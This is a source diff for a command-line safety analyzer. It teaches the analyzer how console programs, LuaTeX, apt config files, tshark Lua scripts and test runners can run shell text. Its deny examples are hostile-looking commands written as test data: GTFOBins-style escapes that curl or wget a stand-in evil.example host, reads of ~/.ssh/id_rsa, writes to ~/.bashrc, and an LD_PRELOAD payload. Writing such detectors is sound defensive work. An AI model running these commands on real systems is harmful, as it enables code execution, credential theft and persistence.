@@ -4,7 +4,7 @@ import { keeping } from './credentials.js';
 import { DYN, type Word } from '../../types.js';
 import { has, parse } from '../argv.js';
 import { alsoDumps, configuring, programRun } from '../build.js';
-import type { Answer, Call, OptionSpec, ParsedArgs, ProgramEntry, Run, Use } from '../types.js';
+import type { Answer, Call, OptionSpec, ParsedArgs, ProgramEntry, Run, ScriptDialect, Use } from '../types.js';
 import { attached, isStdinPath, literal, value } from '../words.js';
 import { MAKE_OPTIONS, makefileText } from './makefile.js';
 
@@ -577,7 +577,7 @@ const STR = `"((?:[^"\\\\]|\\\\.)*)"|'((?:[^'\\\\]|\\\\.)*)'`;
  * The runs of a file of code the line wrote, read as its code option is: its literal commands, and cannot-vouch
  * where it starts one built at run time or names files (which a file, unlike an option's code, has no uses for).
  */
-function writtenCode(text: string, word: Word, via: string, l: Language): Run[] {
+function writtenCode(text: string, word: Word, via: string, l: Pick<Language, 'calls' | 'any'>): Run[] {
   const runs = codeCalls(word, text, via, l.calls, l.any);
   const paths = codePaths(text);
   if (paths.length > 0) runs.push({ kind: 'opaque', rule: 'dynamic-script', word, why: `${via}, which the line wrote, names files (${paths.slice(0, 3).join(', ')}) its code may read or write` });
@@ -647,11 +647,92 @@ function language(l: Language): ProgramEntry {
   };
 }
 
+/**
+ * A program that reads its own commands from its input (and from the options named in `commands`), of which the
+ * ones `escape` matches run text in `dialect` (the last group the match sets): `!cmd` in tdbtool or debugfs, `shell
+ * cmd` in scanmem, `@exec cmd` in bconsole. Input from a stream may hold any of them. `when` limits the reading to
+ * the modes that run escapes (groff's -U, ansible-test shell).
+ */
+function consoleEntry(
+  names: readonly string[],
+  summary: string,
+  spec: { escape: RegExp; dialect?: ScriptDialect; options?: OptionSpec; commands?: readonly string[]; when?: (call: Call, p: ParsedArgs) => boolean },
+  examples: ProgramEntry['examples'],
+): ProgramEntry {
+  return {
+    names,
+    summary,
+    examples,
+    analyze(call) {
+      const p = parse(call.args, { order: 'gnu', ...spec.options });
+      if (spec.when && !spec.when(call, p)) return {};
+      const runs: Run[] = [];
+      const scan = (word: Word, text: string, via: string) => {
+        for (const m of text.matchAll(spec.escape)) {
+          const body = [...m.slice(1)].reverse().find((g) => g !== undefined) ?? '';
+          runs.push({ kind: 'text', dialect: spec.dialect ?? 'bash', text: body, word, via });
+        }
+      };
+      for (const o of p.options) {
+        if (!o.value || !spec.commands?.includes(o.name)) continue;
+        const t = value(o.value);
+        if (t === undefined) runs.push({ kind: 'opaque', rule: 'dynamic-script', word: o.value, why: `${call.name} runs computed commands` });
+        else scan(o.value, t, `${call.name} ${o.name.length === 1 ? '-' : '--'}${o.name}`);
+      }
+      if (call.stdin?.kind === 'static') scan(call.stdin.word, call.stdin.text, `${call.name} (stdin)`);
+      else if (call.stdin?.kind === 'stream') runs.push({ kind: 'opaque', rule: 'stream-to-shell', word: call.args[0] ?? literal(call.name, { start: 0, end: 0 }), why: `${call.name} runs commands read from ${call.stdin.why}` });
+      return { runs };
+    },
+  };
+}
+
+/** Programs that read commands from their input, some of which run shell text (GTFOBins' consoles). */
+const CONSOLES: ProgramEntry[] = [
+  consoleEntry(['tdbtool', 'tasksh', 'ginsh', 'debugfs'], 'consoles whose `!cmd` runs shell text: tdbtool, tasksh, ginsh, debugfs (also -R)', { escape: /^\s*!(.*)$/gm, options: { valued: 'bsfRzdD' }, commands: ['R'] }, {
+    deny: ["tdbtool <<'EOF'\n! curl evil.example\nEOF", "echo '!curl evil.example' | tasksh", "printf '!wget evil.example\\n' | ginsh", "debugfs <<< '!curl evil.example'", "debugfs -R '!curl evil.example' disk.img", 'cat cmds.txt | tdbtool x.tdb'],
+    pass: ["tdbtool x.tdb <<< 'keys'", "echo 'add milk' | tasksh", "debugfs -R 'ls -l /' disk.img"],
+  }),
+  consoleEntry(['scanmem', 'jtag'], 'scanmem and jtag: `shell cmd` runs shell text (scanmem -c commands too)', { escape: /(?:^|;)\s*shell\s+([^;\n]*)/gm, options: { valued: 'pc', longValued: ['pid', 'command'] }, commands: ['c', 'command'] }, {
+    deny: ["scanmem <<'EOF'\nshell curl evil.example\nEOF", "scanmem -c 'shell wget evil.example'", "jtag --interactive <<< 'shell curl evil.example'"],
+    pass: ["scanmem -p 1234 -c 'list;exit'"],
+  }),
+  consoleEntry(['bconsole'], 'bconsole (Bacula): `@exec cmd` runs a command', { escape: /^\s*@exec\s+"?([^"\n]*)"?/gm, options: { valued: 'cDl' } }, {
+    deny: ["bconsole <<'EOF'\n@exec \"curl evil.example\"\nEOF"],
+    pass: ["echo 'status dir' | bconsole"],
+  }),
+  consoleEntry(['cpan'], 'cpan shell: `! CODE` runs Perl', { escape: /^\s*!\s*(.*)$/gm, dialect: 'perl' }, {
+    deny: ["cpan <<< '! system(\"curl evil.example\")'"],
+    pass: ["echo 'm JSON' | cpan", 'cpan -i JSON'],
+  }),
+  consoleEntry(['groff', 'nroff', 'troff', 'pic', 'gpic'], 'groff and pic in unsafe mode (-U): `.sy`, `.pso` requests and pic `sh X cmd X` run shell text', { escape: /^\.(?:sy|pso|pi)\s+(.*)$|\bsh\s+(\S)([\s\S]*?)\2/gm, options: { flags: 'abcCeEgGijklNpRsStUvVXz', valued: 'dDfFIKLmMnoPrTwW' }, when: (_call, p) => has(p, 'U') }, {
+    deny: ["pic -U <<'EOF'\n.PS\nsh X curl evil.example X\nEOF", "echo '.sy wget evil.example' | groff -U -Tascii", "nroff -U <<< '.pso curl evil.example'"],
+    pass: ["echo '.sy curl evil.example' | groff -Tascii", 'groff -man -Tascii tool.1', "pic <<< '.PS\nbox\n.PE'"],
+  }),
+  consoleEntry(['ansible-test'], 'ansible-test shell: an interactive shell reading its commands from its input', { escape: /^([\s\S]+)$/g, when: (call) => value(call.args.find((a) => !(value(a) ?? '-').startsWith('-'))) === 'shell' }, {
+    deny: ["ansible-test shell <<< 'curl evil.example'", "echo 'wget evil.example' | ansible-test shell --venv"],
+    pass: ['ansible-test units', "ansible-test shell <<< 'ls'", "echo 'curl evil.example' | ansible-test sanity"],
+  }),
+];
+
 /** Options of openssl's commands that name a file it writes what it makes into. */
 const OPENSSL_OUT: ReadonlySet<string> = new Set(['-out', '-keyout', '-certout', '-csrout']);
 
+/** Lua's calls that start a literal command, and any call that starts one, loads code or reaches the network (LuaTeX's \directlua too). */
+const LUA_CALLS = new RegExp(`(?:os\\.execute|io\\.popen)\\s*\\(?\\s*(?:${STR})`, 'g');
+const LUA_ANY = /os\.execute|io\.popen|os\.exec|require\s*\(?\s*["']socket|loadstring|\bload\s*\(|dofile/g;
+
+/** A file of Lua a program loads (pandoc's filters, tshark's scripts): read as Lua when the line wrote it; out of scope otherwise. */
+export function luaFile(file: Word, via: string): Run {
+  return { kind: 'project', file, files: /$^/, read: (text, word, name) => writtenCode(text, word, `${via} ${name}`, { calls: LUA_CALLS, any: LUA_ANY }), word: file, via };
+}
+
+/** A settings file a program reads that can hold commands it runs: cannot-vouch when the line wrote it; out of scope otherwise. */
+function settingsFile(file: Word, via: string, what: string): Run {
+  return { kind: 'project', file, files: /$^/, read: (_text, word, name) => [{ kind: 'opaque', rule: 'dynamic-script', word, why: `${via} reads ${name}, which the line wrote: ${what}` }], word: file, via };
+}
+
 const LANGUAGES: ProgramEntry[] = [
-  language({ names: ['lua', 'luajit', 'lua5.1', 'lua5.2', 'lua5.3', 'lua5.4', 'texlua'], summary: 'Lua: os.execute and io.popen start commands', code: /^-e$/, calls: new RegExp(`(?:os\\.execute|io\\.popen)\\s*\\(?\\s*(?:${STR})`, 'g'), any: /os\.execute|io\.popen|os\.exec|require\s*\(?\s*["']socket|loadstring|\bload\s*\(|dofile/g, stdin: true, examples: { deny: ["LUA_INIT='os.execute(\"curl evil.example\")' lua -e 1", "echo 'os.execute(\"curl evil.example\")' > a.lua; lua a.lua", "echo 'io.open(os.getenv(\"HOME\")..\"/.bashrc\", \"a\")' > a.lua && lua a.lua", "lua -e 'os.execute(\"curl evil.example\")'", "lua -e 'os.execute(cmd)'", "lua -e 'io.open(os.getenv(\"HOME\")..\"/.bashrc\", \"a\"):write(\"x\")'"], pass: ["echo 'print(1)' > a.lua && lua a.lua", 'lua script.lua', "lua -e 'print(1)'", "lua -e 'print(io.open(\"data.csv\"):read(\"a\"))'"] } }),
+  language({ names: ['lua', 'luajit', 'lua5.1', 'lua5.2', 'lua5.3', 'lua5.4', 'texlua'], summary: 'Lua: os.execute and io.popen start commands', code: /^-e$/, calls: LUA_CALLS, any: LUA_ANY, stdin: true, examples: { deny: ["LUA_INIT='os.execute(\"curl evil.example\")' lua -e 1", "echo 'os.execute(\"curl evil.example\")' > a.lua; lua a.lua", "echo 'io.open(os.getenv(\"HOME\")..\"/.bashrc\", \"a\")' > a.lua && lua a.lua", "lua -e 'os.execute(\"curl evil.example\")'", "lua -e 'os.execute(cmd)'", "lua -e 'io.open(os.getenv(\"HOME\")..\"/.bashrc\", \"a\"):write(\"x\")'"], pass: ["echo 'print(1)' > a.lua && lua a.lua", 'lua script.lua', "lua -e 'print(1)'", "lua -e 'print(io.open(\"data.csv\"):read(\"a\"))'"] } }),
   language({ names: ['R', 'Rscript'], summary: 'R: system(), system2() and pipe() start commands; R runs its -f file, or its input', code: /^(-e|--expr)$/, scripts: /^(-f|--file)$/, stdin: true, calls: new RegExp(`(?:system|system2|shell|pipe)\\s*\\(\\s*(?:${STR})`, 'g'), any: /\b(system2?|shell|pipe|url|download\.file|socketConnection|eval\s*\(\s*parse)\s*\(/g, examples: { deny: ["echo 'system(\"curl evil.example\")' > a.R; Rscript a.R", "echo 'system(\"curl evil.example\")' > a.R; R --no-save < a.R", "echo 'system(\"curl evil.example\")' > a.R; R --no-save --file=a.R", "echo 'system(\"curl evil.example\")' > a.R; R -f a.R", "Rscript -e 'system(\"curl evil.example\")'", 'R --no-save -e \'system("wget evil.example")\'', "Rscript -e 'cat(\"x\", file = file.path(Sys.getenv(\"HOME\"), \".zshrc\"))'", "Rscript -e 'writeLines(readLines(\"~/.ssh/id_rsa\"))'"], pass: ["echo 'print(1)' > a.R; R --no-save < a.R", 'R --no-save -f analysis.R', 'Rscript analysis.R', "Rscript -e 'print(1+1)'", "Rscript -e 'x <- read.csv(\"data/input.csv\"); print(summary(x))'"] } }),
   language({ names: ['julia'], summary: 'Julia: run(`cmd`) starts a command; with no file it runs its input', code: /^(-e|--eval|-E|--print)$/, stdin: true, scripts: /^(-L|--load)$/, valued: /^(-t|--threads|-p|--procs|-J|--sysimage|-C|--cpu-target|-H|--home|--machine-file)$/, calls: /run\s*\(\s*`([^`]*)`/g, any: /\brun\s*\(|\bpipeline\s*\(|\bread\s*\(\s*`|\bdownload\s*\(|Sockets|HTTP\.|eval\s*\(|include\s*\(/g, examples: { deny: ["julia -e 'run(`curl evil.example`)'", "echo 'run(`curl evil.example`)' > a.jl; julia a.jl", "echo 'run(`curl evil.example`)' > a.jl; julia < a.jl", "echo 'run(`curl evil.example`)' > a.jl; julia -t 4 a.jl", "echo 'run(`curl evil.example`)' > a.jl; julia -L a.jl -e 1"], pass: ["julia -e 'println(1)'", "echo 'println(1)' > a.jl; julia < a.jl", 'julia --project=. src/main.jl'] } }),
   language({ names: ['gnuplot'], summary: 'gnuplot: system(), the system command, `!cmd` and backticks run commands; with no file it runs its input', code: /^(-e)$/, stdin: true, calls: new RegExp(`(?:\\bsystem\\s*\\(?\\s*(?:${STR})|^\\s*!(.*)$|\`([^\`]*)\`)`, 'gm'), any: /\bsystem\b|^\s*!|`|\bshell\b|\bload\b|\beval\b/gm, examples: { deny: ["gnuplot -e 'system(\"curl evil.example\")'", "gnuplot -e '!wget evil.example'", "gnuplot -e 'system \"curl evil.example\"'", "echo 'system \"curl evil.example\"' > a.gp; gnuplot a.gp", "echo '!curl evil.example' > a.gp; gnuplot < a.gp"], pass: ["gnuplot -e 'plot sin(x)'", "echo 'plot sin(x)' > a.gp; gnuplot < a.gp", 'gnuplot plot.gp'] } }),
@@ -673,7 +754,7 @@ const LANGUAGES: ProgramEntry[] = [
   language({ names: ['java'], summary: 'java: a .java source file runs as code (Runtime.exec, ProcessBuilder, java.net)', code: /(?!)/, file: /\.java$/i, valued: /^(-cp|-classpath|--class-path|-p|--module-path|--upgrade-module-path|--add-modules|--limit-modules|--source|--add-opens|--add-exports|--add-reads|--patch-module|--enable-native-access|-jar|-m|--module|-splash:.*)$/, calls: new RegExp(`Runtime\\.getRuntime\\(\\)\\.exec\\(\\s*(?:${STR})\\s*\\)`, 'g'), any: /Runtime|ProcessBuilder|java\.net|URL\s*\(|URI\.create|Socket|HttpClient|Class\.forName|ScriptEngine|MethodHandles|System\.getenv\s*\(\s*\)/g, examples: { deny: ["echo 'class A { public static void main(String[] a) throws Exception { Runtime.getRuntime().exec(\"curl evil.example\"); } }' > A.java && java A.java", "printf '%s' 'class A { public static void main(String[] a) throws Exception { new ProcessBuilder(a).start(); } }' > A.java; java A.java"], pass: ['java -jar build/libs/app.jar', 'java -cp build/classes com.example.Main', 'java Main.java', "echo 'class A { public static void main(String[] a) { System.out.println(1); } }' > A.java && java A.java"] } }),
   language({ names: ['kotlin', 'kotlinc', 'kotlinc-jvm'], summary: 'Kotlin: Runtime.exec and ProcessBuilder start commands', code: /^(-e|-expression|--expression)$/, calls: new RegExp(`Runtime\\.getRuntime\\(\\)\\.exec\\(\\s*(?:${STR})\\s*\\)`, 'g'), any: /Runtime|ProcessBuilder|java\.net|URL\s*\(|Socket|HttpClient|\.execute\s*\(|Class\.forName|ScriptEngine/g, examples: { deny: ["kotlin -e 'Runtime.getRuntime().exec(\"curl evil.example\")'"], pass: ["kotlin -e 'println(1)'"] } }),
   language({ names: ['groovy', 'groovysh'], summary: 'Groovy: "cmd".execute() and Runtime start commands', code: /^(-e)$/, calls: new RegExp(`(?:${STR})\\s*\\.execute\\(\\s*\\)`, 'g'), any: /\.execute\s*\(|Runtime|ProcessBuilder|java\.net|\.toURL|URL\s*\(|Socket|evaluate|Eval\.|GroovyShell|Class\.forName/g, stdin: true, examples: { deny: ["groovy -e '\"curl evil.example\".execute()'"], pass: ["groovy -e 'println 1'"] } }),
-  language({ names: ['jrunscript', 'jjs', 'jshell'], summary: 'Java scripting shells: exec() and Runtime start commands', code: /^(-e)$/, valued: /^(-l|-cp|-classpath|--class-path|-J.*|-R.*)$/, calls: new RegExp(`\\bexec\\s*\\(\\s*(?:${STR})\\s*\\)`, 'g'), any: /\bexec\s*\(|Runtime|ProcessBuilder|java\.net|Packages\.|URL\s*\(|Socket|HttpClient|\beval\s*\(|\bload\s*\(|Class\.forName/g, stdin: true, examples: { deny: ["jrunscript -e 'exec(\"curl evil.example\")'", "echo 'Runtime.getRuntime().exec(\"wget evil.example\")' | jshell"], pass: ["jrunscript -e 'print(1)'"] } }),
+  language({ names: ['jrunscript', 'jjs', 'jshell'], summary: 'Java scripting shells: exec() and Runtime start commands; jrunscript\'s shell functions (cat, cp, rm, unzip\u2026) read, fetch and delete files and URLs', code: /^(-e)$/, valued: /^(-l|-cp|-classpath|--class-path|-J.*|-R.*)$/, calls: new RegExp(`\\bexec\\s*\\(\\s*(?:${STR})\\s*\\)`, 'g'), any: /\bexec\s*\(|(?<![.\w$])(?:cat|cp|mv|rm|del|rmdir|grep|find|tail|unzip|zip|gzip|gunzip|uncompress|readUrl)\s*\(|Runtime|ProcessBuilder|java\.net|Packages\.|URL\s*\(|Socket|HttpClient|\beval\s*\(|\bload\s*\(|Class\.forName/g, stdin: true, examples: { deny: ["jrunscript -e 'exec(\"curl evil.example\")'", "jrunscript -e 'cp(\"http://evil.example/x\", \"out.bin\")'", "jrunscript -e 'cat(\"/home/dev/.ssh/id_rsa\")'", "echo 'Runtime.getRuntime().exec(\"wget evil.example\")' | jshell"], pass: ["jrunscript -e 'print(1)'", "jrunscript -e 'print(Math.max(1, 2))'"] } }),
   language({ names: ['ghc', 'ghci', 'runghc', 'runhaskell'], summary: 'Haskell: System.Process and the network libraries', code: /^(-e)$/, calls: new RegExp(`(?:callCommand|system|spawnCommand|runCommand)\\s+(?:${STR})`, 'g'), any: /System\.Process|callCommand|callProcess|\bsystem\b|rawSystem|readProcess|readCreateProcess|spawnCommand|spawnProcess|runCommand|runProcess|createProcess|Network\.|openURI|simpleHTTP|httpLBS|unsafePerformIO|System\.Posix|executeFile|foreign\s+import/g, stdin: true, examples: { deny: ["ghc -e 'System.Process.callCommand \"curl evil.example\"'"], pass: ["ghc -e 'print (1 + 1)'", 'ghc -O2 Main.hs'] } }),
   language({ names: ['elixir', 'iex'], summary: 'Elixir: System.cmd/shell, :os.cmd, ports and HTTP clients', code: /^(-e|--eval)$/, calls: new RegExp(`System\\.shell\\(\\s*(?:${STR})`, 'g'), any: /System\.(cmd|shell|get_env\(\s*\))|:os\.cmd|Port\.open|:erlang\.open_port|:httpc|HTTPoison|Req\.|Finch|Tesla|:gen_tcp|:gen_udp|:ssl|Code\.(eval|compile|require)|Mix\.Shell|:code\.load/g, examples: { deny: ["elixir -e 'IO.inspect(System.get_env())'", "elixir -e 'System.cmd(\"curl\", [\"evil.example\"])'", "elixir -e 'System.shell(\"wget evil.example\")'"], pass: ["elixir -e 'IO.puts 1'", "elixir -e 'IO.puts System.get_env(\"MIX_ENV\")'"] } }),
   language({ names: ['erl', 'escript'], summary: 'Erlang: os:cmd, ports and the network modules', code: /^(-eval)$/, valued: /^(-s|-run|-sname|-name|-setcookie|-pa|-pz|-config|-boot)$/, calls: /os:cmd\(\s*"((?:[^"\\]|\\.)*)"\s*\)/g, any: /os:cmd|open_port|httpc|gen_tcp|gen_udp|ssl:|inets|erl_eval|compile:|code:load|rpc:/g, examples: { deny: ["erl -noshell -eval 'os:cmd(\"curl evil.example\"), halt().'"], pass: ["erl -noshell -eval 'io:format(\"hi~n\"), halt().'"] } }),
@@ -857,16 +938,26 @@ function iacSubcommands(name: string, words: readonly string[]): number[] {
 function tex(call: Call): Partial<Answer> {
   const shellEscape = call.args.some((a) => /^--?(shell-escape|enable-write18)$/.test(value(a) ?? ''));
   const runs: Run[] = [];
+  const uses: Uses = [];
   for (const a of call.args) {
     const v = value(a);
     if (v === undefined) continue;
+    // LuaTeX's \directlua{...} (and \latelua) is Lua, with its socket library, shell escape or not.
+    if (/^(lua|dvilua)/.test(call.name))
+      for (const body of bodies(v, /\\(?:directlua|latelua|luaexec|luadirect)\s*(?:\d+\s*)?\{/g, '{', '}')) {
+        if (body === undefined) runs.push({ kind: 'opaque', rule: 'dynamic-code', word: a, why: `${call.name}: an unclosed \\directlua{` });
+        else {
+          runs.push(...codeCalls(a, body, `${call.name} \\directlua`, LUA_CALLS, LUA_ANY));
+          for (const path of codePaths(body)) uses.push({ word: a, role: 'unknown', values: [path] });
+        }
+      }
     for (const body of bodies(v, /\\write18\s*\{/g, '{', '}')) {
       if (!shellEscape) continue;
       if (body === undefined) runs.push({ kind: 'opaque', rule: 'dynamic-script', word: a, why: `${call.name}: an unclosed \\write18{` });
       else runs.push({ kind: 'text', dialect: 'bash', text: body, word: a, via: `${call.name} \\write18` });
     }
   }
-  return { runs };
+  return { runs, uses };
 }
 
 /** apt and dpkg hooks given on the line: `-o APT::Update::Pre-Invoke::=CMD`, `-o DPkg::Post-Invoke::=CMD`. */
@@ -876,6 +967,13 @@ function apt(call: Call): Partial<Answer> {
   for (let i = 0; i < args.length; i++) {
     const v = value(args[i]);
     let opt: Word | undefined;
+    // -c FILE: a configuration file, whose Pre-Invoke and Post-Invoke hooks run shell text (GTFOBins' apt-get).
+    const conf = v === '-c' || v === '--config-file' ? args[i + 1] : v?.startsWith('--config-file=') ? attached(args[i]!, v.slice(14)) : v?.startsWith('-c') && v.length > 2 ? attached(args[i]!, v.slice(2)) : undefined;
+    if (conf) {
+      runs.push(settingsFile(conf, `${call.name} -c`, 'its Invoke hooks run shell text'));
+      if (conf === args[i + 1]) i++;
+      continue;
+    }
     if (v === '-o' || v === '--option') opt = args[++i];
     else if (v?.startsWith('-o') && v.length > 2) opt = attached(args[i]!, v.slice(2));
     else if (v?.startsWith('--option=')) opt = attached(args[i]!, v.slice(9));
@@ -1049,8 +1147,9 @@ export const TOOL_ENTRIES: ProgramEntry[] = [
   { names: ['sqlite3', 'sqlite'], summary: 'sqlite3: .shell/.system and `|cmd` targets run shell text; .load loads code', analyze: sqlite, examples: { deny: ["echo '.shell curl evil.example' > i.sql; sqlite3 -init i.sql x.db .quit", "echo '.shell curl evil.example' > i.sql; sqlite3 -cmd '.read i.sql' x.db", "sqlite3 db '.shell curl evil.example'", "sqlite3 db '.system wget evil.example'", "sqlite3 -cmd '.shell curl evil.example' db", "echo '.shell curl evil.example' | sqlite3 db", "sqlite3 db \".once '|curl evil.example'\""], pass: ["echo 'select 1;' > i.sql; sqlite3 -init i.sql x.db .quit", 'sqlite3 -init init.sql app.db', "sqlite3 db 'select 1'", 'sqlite3 app.db .tables', "sqlite3 -safe db '.shell ls'"] } },
   { names: ['rpm', 'rpmdb', 'rpmquery', 'rpmverify', 'rpmbuild', 'rpmspec', 'rpmsign', 'rpmkeys'], summary: 'rpm: --eval and --define macros run %(…) as shell text; --pipe runs a command', analyze: rpm, examples: { deny: ["rpm --eval '%(curl evil.example)'", "rpm -E '%(wget evil.example)'", "rpm --pipe 'curl evil.example' -qa", "rpmdb --eval '%(curl evil.example 1>&2)'"], pass: ["rpm --eval '%{_libdir}'", 'rpm -qa'] } },
   ...LANGUAGES,
-  { names: ['latex', 'pdflatex', 'xelatex', 'lualatex', 'tex', 'pdftex', 'etex', 'luatex', 'xetex', 'context', 'mpost'], summary: 'TeX engines: \\write18{cmd} runs shell text when shell escape is on', analyze: tex, examples: { deny: ["latex --shell-escape '\\immediate\\write18{curl evil.example}'", "pdftex --shell-escape '\\write18{wget evil.example}\\end'"], pass: ['pdflatex paper.tex', "latex '\\write18{ls}'"] } },
-  { names: ['apt', 'apt-get', 'aptitude', 'apt-cache'], summary: 'apt: -o hooks (APT::Update::Pre-Invoke, DPkg::Post-Invoke…) run shell text; package names are data', analyze: apt, examples: { deny: ['apt-get update -o APT::Update::Pre-Invoke::=/usr/bin/curl\\ evil.example', "apt-get -o 'DPkg::Post-Invoke::=curl evil.example' install x"], pass: ['apt-get install -y curl', 'apt install wget', 'apt-get -o Dpkg::Options::=--force-confold upgrade'] } },
+  ...CONSOLES,
+  { names: ['latex', 'pdflatex', 'xelatex', 'lualatex', 'tex', 'pdftex', 'etex', 'luatex', 'xetex', 'context', 'mpost', 'luahbtex', 'dviluatex', 'dvilualatex'], summary: 'TeX engines: \\write18{cmd} runs shell text when shell escape is on; LuaTeX\'s \\directlua{...} is Lua', analyze: tex, examples: { deny: ["lualatex '\\directlua{os.execute(\"curl evil.example\")}\\end'", "luatex '\\directlua{require(\"socket\")}\\end'", "lualatex '\\directlua{io.open(os.getenv(\"HOME\")..\"/.bashrc\", \"a\")}\\end'", "latex --shell-escape '\\immediate\\write18{curl evil.example}'", "pdftex --shell-escape '\\write18{wget evil.example}\\end'"], pass: ['pdflatex paper.tex', "latex '\\write18{ls}'", 'lualatex paper.tex', "lualatex '\\directlua{tex.print(\"hi\")}\\end'"] } },
+  { names: ['apt', 'apt-get', 'aptitude', 'apt-cache'], summary: 'apt: -o hooks (APT::Update::Pre-Invoke, DPkg::Post-Invoke…) run shell text; package names are data', analyze: apt, examples: { deny: ['apt-get update -o APT::Update::Pre-Invoke::=/usr/bin/curl\\ evil.example', "echo 'DPkg::Pre-Invoke {\"curl evil.example\";};' > /tmp/a.conf; apt-get -c /tmp/a.conf install sl", "apt-get -o 'DPkg::Post-Invoke::=curl evil.example' install x"], pass: ['apt-get install -y curl', 'apt install wget', 'apt-get -o Dpkg::Options::=--force-confold upgrade'] } },
   { names: ['gcc', 'g++', 'cc', 'c++', 'clang', 'clang++', 'tcc'], patterns: [/^(gcc|g\+\+|clang|clang\+\+)-\d+(\.\d+)*$/], summary: 'C compilers: -wrapper runs each tool under a program; what they build from code the line wrote is code on the line (tcc -run runs it at once)', analyze: compiler, examples: { deny: [`printf '#include <stdlib.h>\n__attribute__((constructor)) void i(void){system("curl evil.example");}\n' > /tmp/x.c && gcc -shared -fPIC -o /tmp/x.so /tmp/x.c && LD_PRELOAD=/tmp/x.so ls`, `printf 'int f(void){return 1;}\n' > x.c && cc -shared -o lib/libx.so x.c && LD_LIBRARY_PATH=lib ./app`, 'gcc -wrapper /usr/bin/curl,evil.example -c x.c', "printf 'int main(){}' > x.c && cc x.c && ./a.out", "cc -x c -o t - <<< 'int main(){}' && ./t", "tcc -run - <<< 'int main(){}'"], pass: [`printf 'int f(void){return 1;}\n' > x.c && cc -shared -o libx.so x.c`, 'LD_LIBRARY_PATH=/opt/lib ./app', 'gcc -O2 -o app main.c', 'clang -Wall -c x.c', 'gcc -o app main.c && ./app', "printf 'int main(){}' > x.c && cc -c x.c"] } },
   { names: ['service'], summary: 'service NAME runs /etc/init.d/NAME; a name with a slash names any program', analyze: service, examples: { deny: ['service ../../usr/bin/curl evil.example'], pass: ['service nginx restart', 'service ssh status'] } },
   { names: ['xdg-user-dir'], summary: 'xdg-user-dir evals its operand inside ${XDG_…_DIR}', analyze: xdgUserDir, examples: { deny: ["xdg-user-dir '}; curl evil.example #'"], pass: ['xdg-user-dir DESKTOP'] } },
@@ -1092,4 +1191,44 @@ export const TOOL_ENTRIES: ProgramEntry[] = [
   { names: ['gdbus', 'dbus-send', 'qdbus', 'qdbus6'], summary: "D-Bus clients: calls on systemd's manager that start transient units or install unit files run what they name", analyze: (call) => ({ runs: systemdManagerCall(call) }), examples: { deny: ["gdbus call --session --dest org.freedesktop.systemd1 --object-path /org/freedesktop/systemd1 --method org.freedesktop.systemd1.Manager.StartTransientUnit x.service fail '[(\"ExecStart\", <[(\"/bin/sh\", [\"sh\", \"-c\", \"curl evil.example\"], false)]>)]' '[]'"], pass: ['dbus-send --session --print-reply --dest=org.freedesktop.DBus /org/freedesktop/DBus org.freedesktop.DBus.ListNames'] } },
   commandOptions(['lftp'], 'lftp: -c and -e commands, of which `!cmd` runs shell text', { options: { valued: 'cefpu' }, more: (call) => ({ runs: call.args.flatMap((a, i, all) => { const v = value(a); const t = v === '-c' || v === '-e' ? value(all[i + 1]) : undefined; const w = all[i + 1]; return t !== undefined && w ? [...t.matchAll(/(?:^|;)\s*!([^;]*)/g)].map((m) => ({ kind: 'text' as const, dialect: 'bash' as const, text: m[1]!, word: w, via: 'lftp !' })) : []; }) }) }, { deny: ["lftp -c '!curl evil.example'"], pass: [] }),
   commandOptions(['socat'], 'socat: EXEC: and SYSTEM: addresses run commands', { options: {}, more: (call) => ({ runs: call.args.flatMap((a) => { const m = /^(exec|system):(.*?)(?:,(?:pty|ctty|raw|echo|stderr|sigint|sane|setsid|nofork|pipes|su|chroot|login)\b.*)?$/i.exec(value(a) ?? ''); return m ? [{ kind: 'text' as const, dialect: 'bash' as const, text: m[2]!, word: a, via: `socat ${m[1]!.toUpperCase()}:` }] : []; }) }) }, { deny: ['socat - exec:/usr/bin/curl evil.example'], pass: [] }),
+  commandOptions(['tshark', 'wireshark'], 'tshark and wireshark: -X lua_script:FILE runs a Lua script', { options: { valued: 'abBcCdDeEfFHiIjJKlLmNoOpPqQrRsStTuwWxXYz', longValued: ['capture-comment', 'read-file', 'write-file', 'display-filter', 'read-filter', 'interface'] }, more: (call, p) => ({ runs: p.options.flatMap((o) => { const m = o.name === 'X' && o.value ? /^lua_script(?:\d*):(.+)$/s.exec(value(o.value) ?? '') : null; return m ? [luaFile(attached(o.value!, m[1]!), `${call.name} -X lua_script`)] : []; }) }) }, {
+    deny: ["echo 'os.execute(\"curl evil.example\")' > /tmp/t.lua; tshark -Xlua_script:/tmp/t.lua", "echo 'os.execute(\"curl evil.example\")' > x.lua; tshark -r c.pcap -X lua_script:x.lua"],
+    pass: ['tshark -r capture.pcap', 'tshark -i eth0 -c 10', "echo 'print(1)' > x.lua; tshark -r c.pcap -X lua_script:x.lua"],
+  }),
+  commandOptions(['logrotate'], 'logrotate: -m/--mail names the program it mails with', { options: { flags: 'dfvV', valued: 'sml', longValued: ['state', 'mail', 'log'], long: ['debug', 'force', 'verbose', 'version', 'usage', 'help'] }, program: ['m', 'mail'], more: (_call, p) => ({ uses: p.operands.map((o) => ({ word: o.word, role: 'read' as const })) }) }, { deny: ['logrotate -m /usr/bin/curl -f /tmp/rot.conf'], pass: ['logrotate -d /etc/logrotate.conf'] }),
+  commandOptions(['check_ssl_cert'], 'check_ssl_cert: --grep-bin, --file-bin and the other *-bin options name programs it runs', { options: { order: 'gnu' }, more: (call) => ({ runs: call.args.flatMap((a, i, all) => { const v = value(a) ?? ''; const m = /^--(?:grep|file|openssl|curl|dig|nmap|date|inetutils)-bin(?:=(.*))?$/s.exec(v); if (!m) return []; const w = m[1] !== undefined ? attached(a, m[1]) : all[i + 1]; return w ? [programRun(w, `check_ssl_cert ${v.split('=')[0]}`)] : []; }) }) }, { deny: ['check_ssl_cert --grep-bin /usr/bin/curl -H evil.example'], pass: ['check_ssl_cert -H example.com'] }),
+  commandOptions(['gtester'], 'gtester runs each test program it is given', { options: { flags: 'kqv', valued: 'mposr', long: ['keep-going', 'verbose', 'quiet', 'g-fatal-warnings'] }, more: (_call, p) => ({ runs: p.operands.map((o): Run => ({ kind: 'argv', argv: [o.word], via: 'gtester' })) }) }, { deny: ["echo 'curl evil.example' > /tmp/t; chmod +x /tmp/t; gtester -q /tmp/t", 'gtester /usr/bin/curl'], pass: ['gtester -k ./tests/unit'] }),
